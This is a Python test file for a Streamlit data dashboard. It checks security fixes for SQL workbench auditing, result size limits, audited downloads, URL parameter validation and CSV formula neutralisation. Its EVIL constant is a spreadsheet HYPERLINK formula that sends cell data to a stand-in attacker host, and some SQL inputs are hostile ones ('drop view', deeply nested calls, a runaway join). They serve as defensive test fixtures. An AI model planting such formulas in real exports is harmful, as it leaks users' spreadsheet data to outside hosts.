"""Issue 12, findings 1, 5, 6, 7 and 13: every workbench run audited whatever happens, a byte budget for its result,
every download audited where its bytes are made, CSV that cannot run formulas, and SQL page URL numbers checked.
Each test fails on the code before the fix (see docs/security.md). Counts refer to tests/tiny_fixture.py
(6 agencies C1, C2, P1C, P1X, P2C, P2X; datasets D1, D2, D3; exchanges E1..E7)."""

from __future__ import annotations

import datetime as dt
import io
import shutil
import sys
import tomllib
import zipfile

import polars as pl
import pytest
from download_helpers import Downloads
from streamlit.testing.v1 import AppTest
from streamlit.util import calc_hash
from test_sqlpages import write_tiny_plus

from dashboard.access import audit
from dashboard.config import ROOT, workbench_max_bytes
from dashboard.csvsafe import csv_bytes, csv_text
from dashboard.engine import sandbox
from dashboard.i18n import t
from dashboard.scope import Scope
from dashboard.sqlpages.run import refusal_text, workbench_run

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Mở")'


def workbench_app(base, monkeypatch) -> AppTest:
    """The app on `base` at /workbench, the tiny fixture's week, as the demo admin (mode none on test data)."""
    monkeypatch.setenv("DASHBOARD_DATA_DIR", str(base))
    monkeypatch.setenv("DASHBOARD_TODAY", "2026-03-10")
    monkeypatch.delenv("DASHBOARD_ROLE", raising=False)
    monkeypatch.delenv("DASHBOARD_SCOPE", raising=False)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.query_params.update({"period": "custom", "start": "2026-03-02", "end": "2026-03-08"})
    at._page_hash = calc_hash("workbench")
    return at


# ---- finding 7: formula injection in CSV ---------------------------------------------------------------------


def test_finding_07_csv_text_cells_that_start_a_formula_are_neutralised():
    frame = pl.DataFrame(
        {
            "name": [EVIL, "+1", "-x", "@SUM(A1)", "\tx", "\rx", "Hà Nội", None, "a=b"],
            "n": [1, -2, 3, 4, 5, 6, 7, 8, -9],
            "rate": [0.5, -0.25, None, 1.0, 0.0, 2.0, 3.0, 4.0, -1.5],
        }
    )
    text = csv_text(frame)
    # by hand: a leading quote on the six cells that start with = + - @ tab CR; numbers (even negative) untouched;
    # the cells with a tab, CR or quote are quoted by the CSV writer ("" is an escaped quote)
    assert text == (
        "name,n,rate\n"
        '"\'=HYPERLINK(""http://evil.example/?""&A2,""Mở"")",1,0.5\n'
        "'+1,-2,-0.25\n"
        "'-x,3,\n"
        "'@SUM(A1),4,1.0\n"
        "'\tx,5,0.0\n"
        '"\'\rx",6,2.0\n'
        "Hà Nội,7,3.0\n"
        ",8,4.0\n"
        "a=b,-9,-1.5\n"
    )
    assert csv_bytes(frame) == text.encode("utf-8-sig")  # the BOM Excel needs for Vietnamese
    # a column name is a cell too: `select 1 as "=cmd"` in the workbench
    assert csv_text(pl.DataFrame({"=cmd": [1]})) == "'=cmd\n1\n"


def test_finding_07_every_csv_the_app_writes_is_neutralised():
    frame = pl.DataFrame({"dataset_name": [EVIL], "calls": [-3]})
    assert sandbox.export(frame, "csv").decode("utf-8-sig").splitlines()[1].startswith("\"'=HYPERLINK(")
    # XLSX keeps writing it as a string: a shared string, no formula element anywhere in the sheet
    sheet = zipfile.ZipFile(io.BytesIO(sandbox.export(frame, "xlsx")))
    assert "<f>" not in sheet.read("xl/worksheets/sheet1.xml").decode()
    assert (
        "=HYPERLINK(&quot;" in sheet.read("xl/sharedStrings.xml").decode()
        or '=HYPERLINK("' in sheet.read("xl/sharedStrings.xml").decode()
    )


# ---- finding 1: every workbench run audited, every failure in words -----------------------------------------

WEEK = {"start": dt.date(2026, 3, 2), "end": dt.date(2026, 3, 8), "scope_type": "all", "scope_id": None, "lang": "vi"}
JOIN = "select * from exchanges_daily e join datasets d on e.dataset_id = d.dataset_id"
INTERVAL = "select interval 1 day as i"
LATE_ERROR = (
    "select case when i > 9000 then error((select string_agg(name_vi, ' / ') from (from agencies limit 3))) "
    "else i end from range(10000) t(i)"
)
DEEP = "select " + "abs(" * 400 + "1" + ")" * 400


@pytest.fixture
def base(tiny_base, tmp_path):
    """A data dir of the test's own (the tiny fixture's curated files), so its audit log holds only this test."""
    shutil.copytree(tiny_base / "curated", tmp_path / "curated")
    return tmp_path


def runs(base) -> list[dict]:
    return audit.read(base, audit.now().date().isoformat(), event="workbench_query")


def run_once(base, sql: str, **options):
    """One run through the page's entry point; checks it wrote exactly one audit line and returns (outcome, line)."""
    before = len(runs(base))
    outcome = workbench_run(base, Scope(), sql, WEEK, "analyst", **options)
    after = runs(base)
    assert len(after) == before + 1
    line = after[-1]
    assert line["sql"] == sql and line["user"] == "analyst" and line["scope"] == "all"
    return outcome, line


def test_finding_01_a_join_with_repeated_names_is_shown_with_unique_names(base):
    outcome, line = run_once(base, JOIN)
    # E1..E7 all name a dataset in datasets (D1, D1, D2, D4, D3, D1, D4): 7 rows
    assert isinstance(outcome, sandbox.Result) and outcome.total_rows == 7 and outcome.frame.height == 7
    assert outcome.renamed == (("dataset_id", "dataset_id_2"),)
    assert outcome.frame.columns.count("dataset_id") == 1 and "dataset_id_2" in outcome.frame.columns
    assert outcome.frame["dataset_id"].to_list() == outcome.frame["dataset_id_2"].to_list()
    assert line["status"] == "ok" and line["rows"] == 7
    assert sandbox.unique_names(["a", "a", "a_2", "b", "a"]) == ["a", "a_3", "a_2", "b", "a_4"]


def test_finding_01_every_duckdb_type_displays_as_text_or_as_itself(base):
    sql = (
        "select interval 1 day as i, [1, 2] as l, {'a': 1} as s, map([1], [2]) as m, 'ab'::blob as b, "
        "12345678901234567890123456789012345678::decimal(38, 0) as d, union_value(k := 1) as u, 7 as n"
    )
    outcome, line = run_once(base, sql)
    assert isinstance(outcome, sandbox.Result), outcome
    assert outcome.as_text == ("i", "l", "s", "m", "b", "u")
    # DuckDB's own text of each value
    assert outcome.frame.select("i", "l", "s", "m", "b", "u").rows() == [
        ("1 day", "[1, 2]", "{'a': 1}", "{1=2}", "ab", "1")
    ]
    assert str(outcome.frame["d"][0]) == "12345678901234567890123456789012345678" and outcome.frame["n"][0] == 7
    assert line["status"] == "ok"
    for kind in ("csv", "xlsx", "parquet"):
        assert sandbox.export(outcome.frame, kind)  # and every download of it can be made
    # a number too large for a DECIMAL(38) (the largest UHUGEINT, 39 digits; Arrow made it -1) is refused in words
    too_big, line = run_once(base, "select 340282366920938463463374607431768211455::uhugeint as x")
    assert isinstance(too_big, sandbox.Refused) and too_big.code == "error" and line["status"] == "refused:error"
    assert "340282366920938463463374607431768211455" in refusal_text(too_big, "en")
    # a sum of BIGINT is a HUGEINT: it stays a number; 1 + 2 + ... + 100 = 5050
    summed, _ = run_once(base, "select sum(i::bigint) as s from range(101) t(i)")
    assert summed.frame["s"].dtype.is_numeric() and int(summed.frame["s"][0]) == 5050


@pytest.mark.parametrize(
    ("sql", "code"),
    [(INTERVAL, None), (LATE_ERROR, "error"), (DEEP, "too_deep"), ("drop view agencies", "not_select")],
    ids=["interval", "error after the first batch", "too deep to check", "refused"],
)
def test_finding_01_the_issues_attacks_are_audited_and_answered_in_words(base, sql, code):
    outcome, line = run_once(base, sql)
    if code is None:
        assert outcome.frame.rows() == [("1 day",)] and line["status"] == "ok"
        return
    assert isinstance(outcome, sandbox.Refused) and outcome.code == code
    assert line["status"] == f"refused:{code}" and line["rows"] is None
    for lang in ("vi", "en"):
        assert "Traceback" not in refusal_text(outcome, lang)
    if code == "error":  # the analyst sees DuckDB's words, the audit log holds the run
        assert "Cơ quan C1 / Cơ quan C2" in refusal_text(outcome, "en")


def test_finding_01_a_timeout_and_an_unexpected_error_of_any_class_are_audited(base, monkeypatch):
    slow = "select count(*) as n from range(100000) a, range(100000) b where a.range + b.range = 7"
    outcome, line = run_once(base, slow, timeout_s=1.0)
    assert outcome.code == "timeout" and line["status"] == "refused:timeout"

    def broken(*args, **kwargs):
        raise pl.exceptions.DuplicateError("column appears more than once")

    monkeypatch.setattr(sandbox, "run_select", broken)
    outcome, line = run_once(base, "select 1 as x")
    assert outcome.code == "failed" and line["status"] == "failed:DuplicateError"
    assert refusal_text(outcome, "vi").startswith(t("workbench.refused_failed", "vi"))

    class Stop(BaseException):  # what Streamlit raises into a script it stops or reruns
        pass

    def stopped(*args, **kwargs):
        raise Stop

    monkeypatch.setattr(sandbox, "run_select", stopped)
    before = len(runs(base))
    with pytest.raises(Stop):
        workbench_run(base, Scope(), "select 2 as x", WEEK, "analyst")
    assert len(runs(base)) == before + 1 and runs(base)[-1]["status"] == "interrupted"


def test_finding_01_the_page_shows_words_and_writes_one_line_per_run(base, monkeypatch):
    at = workbench_app(base, monkeypatch).run()
    for sql in (JOIN, INTERVAL, LATE_ERROR, DEEP):
        before = len(runs(base))
        at.text_area(key="wb_sql").set_value(sql)
        at = at.button(key="wb_run").click().run()
        assert not at.exception, (sql, at.exception)
        assert len(runs(base)) == before + 1
    # the last one, too deep to check: one refusal in words
    assert [e.value for e in at.error] == [t("workbench.refused_too_deep", "vi")]
    at.text_area(key="wb_sql").set_value(JOIN)
    at = at.button(key="wb_run").click().run()
    assert t("workbench.renamed", "vi", names="dataset_id → dataset_id_2") in [i.value for i in at.info]


# ---- finding 5: a byte budget for a workbench result -----------------------------------------------------------

# the issue's query, 100 times smaller per cell (1,500 characters instead of 150,000)
WIDE = "SELECT repeat('x',1500)||i a, repeat('y',1500)||i b, repeat('z',1500)||i c FROM range(10000) t(i)"


def test_finding_05_the_budget_is_a_setting_of_50_mb(monkeypatch):
    monkeypatch.delenv("DASHBOARD_WORKBENCH_MAX_BYTES", raising=False)
    assert workbench_max_bytes() == 50_000_000
    monkeypatch.setenv("DASHBOARD_WORKBENCH_MAX_BYTES", "20MB")
    assert workbench_max_bytes() == 20_000_000
    monkeypatch.setenv("DASHBOARD_WORKBENCH_MAX_BYTES", "1000000")
    assert workbench_max_bytes() == 1_000_000
    for bad in ("lots", "0", "-5MB", "12 parsecs"):
        monkeypatch.setenv("DASHBOARD_WORKBENCH_MAX_BYTES", bad)
        with pytest.raises(ValueError, match="DASHBOARD_WORKBENCH_MAX_BYTES"):
            workbench_max_bytes()


def test_finding_05_a_wide_result_is_cut_at_the_byte_budget(base, monkeypatch):
    monkeypatch.setenv("DASHBOARD_WORKBENCH_MAX_BYTES", "1000000")
    outcome, line = run_once(base, WIDE)
    kept = outcome.frame.height
    # a row holds 3 texts of 1,501 to 1,503 characters (i < 1000): at least 3 * 1501 = 4,503 bytes, so at most
    # 1,000,000 / 4,503 = 222.07 -> 222 rows fit; with at most 16 bytes of offsets or views per text, a row takes at
    # most 3 * (1503 + 16) + 1 = 4,558 bytes, so at least 1,000,000 / 4,558 = 219.4 -> 219 rows fit
    assert 219 <= kept <= 222
    assert outcome.total_rows == 10_000 and outcome.truncated and outcome.byte_budget == 1_000_000
    assert outcome.frame.estimated_size() <= 1_000_000 * 1.1
    assert outcome.frame["a"][0] == "x" * 1500 + "0" and outcome.frame["c"][kept - 1] == "z" * 1500 + str(kept - 1)
    assert line["status"] == "ok" and line["cut"] == "bytes" and line["rows"] == 10_000 and line["kept_rows"] == kept
    # the row cap still applies below the budget: 25,000 one-number rows keep 10,000
    small, line = run_once(base, "select range as i from range(25000)")
    assert (small.frame.height, small.total_rows, small.byte_budget, line["cut"]) == (10_000, 25_000, None, "rows")


def test_finding_05_the_page_says_the_result_was_cut_and_how_much_was_kept(base, monkeypatch):
    monkeypatch.setenv("DASHBOARD_WORKBENCH_MAX_BYTES", "1000000")
    at = workbench_app(base, monkeypatch).run()
    at.text_area(key="wb_sql").set_value(WIDE)
    at = at.button(key="wb_run").click().run()
    assert not at.exception and not at.error
    shown = {m.label: m.value for m in at.metric}
    kept = int(shown["Số dòng hiển thị"])
    assert 219 <= kept <= 222 and shown["Tổng số dòng"] == "10.000"
    assert [w.value for w in at.warning] == [
        t("workbench.cut_bytes", "vi", budget="1,0 MB", shown=str(kept), total="10.000")
    ]
    assert len(at.dataframe[-1].value) == kept


# ---- finding 6: every way data leaves is audited where the bytes are made ------------------------------------


def downloads_of(base) -> list[dict]:
    return audit.read(base, audit.now().date().isoformat(), event="download")


def test_finding_06_workbench_downloads_are_audited_when_fetched_not_when_clicked(base, monkeypatch):
    files = Downloads(monkeypatch)
    at = workbench_app(base, monkeypatch).run()
    at.text_area(key="wb_sql").set_value("select agency_id from agencies where agency_id like 'C%' order by 1")
    at = at.button(key="wb_run").click().run()
    buttons = {b.proto.id.rsplit("-", 1)[-1]: b for b in at.download_button}
    assert not downloads_of(base)  # drawing the buttons writes nothing and makes no file
    for kind in ("csv", "xlsx", "parquet"):
        button = next(b for k, b in buttons.items() if k.endswith(f"wb_download_{kind}"))
        # a client that skips the click and asks for the file directly: the bytes are made and audited there
        data = files.fetch_button(button)
        line = downloads_of(base)[-1]
        assert (line["file"], line["what"], line["scope"], line["user"]) == (
            f"workbench_result.{kind}",
            "workbench",
            "all",
            "demo",
        )
        if kind == "csv":
            assert data.decode("utf-8-sig") == "agency_id\nC1\nC2\n"  # the two central bodies
    assert len(downloads_of(base)) == 3


def test_finding_06_every_data_download_of_the_app_is_deferred_and_audited(base, monkeypatch):
    files = Downloads(monkeypatch)
    at = workbench_app(base, monkeypatch)
    at._page_hash = calc_hash("sharing")
    at = at.run()
    assert not at.exception
    buttons = list(at.download_button)
    assert buttons and all(b.proto.deferred_file_id and not b.proto.url for b in buttons)
    assert not downloads_of(base)
    for button in buttons:
        files.fetch_button(button)
    assert len(downloads_of(base)) == len(buttons)
    assert {line["file"].rsplit(".", 1)[-1] for line in downloads_of(base)} == {"csv", "xlsx"}


def test_finding_06_the_table_toolbar_export_is_switched_off_wherever_the_app_starts(tiny_base, monkeypatch):
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
    # `python -m dashboard serve` passes it as a flag: config.toml is read only from the current directory
    from streamlit.web import cli

    from dashboard.web import serve

    started: list[list[str]] = []

    def fake_main():
        started.append(list(sys.argv))
        raise SystemExit(0)

    monkeypatch.setattr(cli, "main", fake_main)
    monkeypatch.setattr(serve, "preload", lambda *names: None)
    monkeypatch.setattr(sys, "argv", list(sys.argv))
    monkeypatch.setenv("DASHBOARD_DATA_DIR", str(tiny_base))
    assert serve.serve(tiny_base) == 0
    argv = started[0]
    assert argv[argv.index("--client.disableDataExport") + 1] == "true"


# ---- finding 7 on the page: the admin's audit CSV ------------------------------------------------------------


def test_finding_07_a_sign_in_name_reaches_the_audit_csv_as_text(base, monkeypatch):
    files = Downloads(monkeypatch)
    audit.record(base, "sign_in_failed", EVIL, mode="password", reason="failed")
    at = workbench_app(base, monkeypatch)
    at._page_hash = calc_hash("audit")
    at = at.run()
    assert not at.exception
    csv = next(b for b in at.download_button if b.proto.id.endswith(f"csv_audit_{audit.now().date().isoformat()}"))
    text = files.fetch_button(csv).decode("utf-8-sig")
    row = next(r for r in text.splitlines()[1:] if "HYPERLINK" in r)
    # the user column: a leading quote, the CSV's own quotes doubled
    assert ',"\'=HYPERLINK(""http://evil.example/?""&A2,""Mở"")",' in row
    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text


# ---- finding 13: SQL page numbers from the URL ----------------------------------------------------------------

REDECLARED = "phan_tich-thu_tuc_khai_bao_lai_theo_tinh"  # its `top`: a whole number, default 3, 1..10, step 1


@pytest.fixture(scope="module")
def plus_base(tmp_path_factory):
    return write_tiny_plus(tmp_path_factory.mktemp("tiny_plus_finding_13"))


@pytest.mark.parametrize("text", ["nan", "inf", "-inf", "2.5", "1e400", "abc", "11"])
def test_finding_13_a_bad_number_in_the_link_gets_the_notice_and_the_default(plus_base, monkeypatch, text):
    at = workbench_app(plus_base, monkeypatch)
    at.query_params["p_top"] = text
    at._page_hash = calc_hash(REDECLARED)
    at = at.run()
    assert not at.exception, at.exception
    assert t("filter.bad_url", "vi", detail=f"p_top={text}") in [w.value for w in at.warning]
    top = at.number_input(key=f"sqlp_{REDECLARED}_top")
    assert top.value == 3 and isinstance(top.value, int)
    assert "p_top" not in at.query_params  # the default is not written back into the link


def test_finding_13_a_good_number_in_the_link_is_taken_without_a_notice(plus_base, monkeypatch):
    at = workbench_app(plus_base, monkeypatch)
    at.query_params["p_top"] = "5.0"  # a whole number written with a decimal point
    at._page_hash = calc_hash(REDECLARED)
    at = at.run()
    assert not at.exception and not [w for w in at.warning if "p_top" in w.value]
    assert at.number_input(key=f"sqlp_{REDECLARED}_top").value == 5
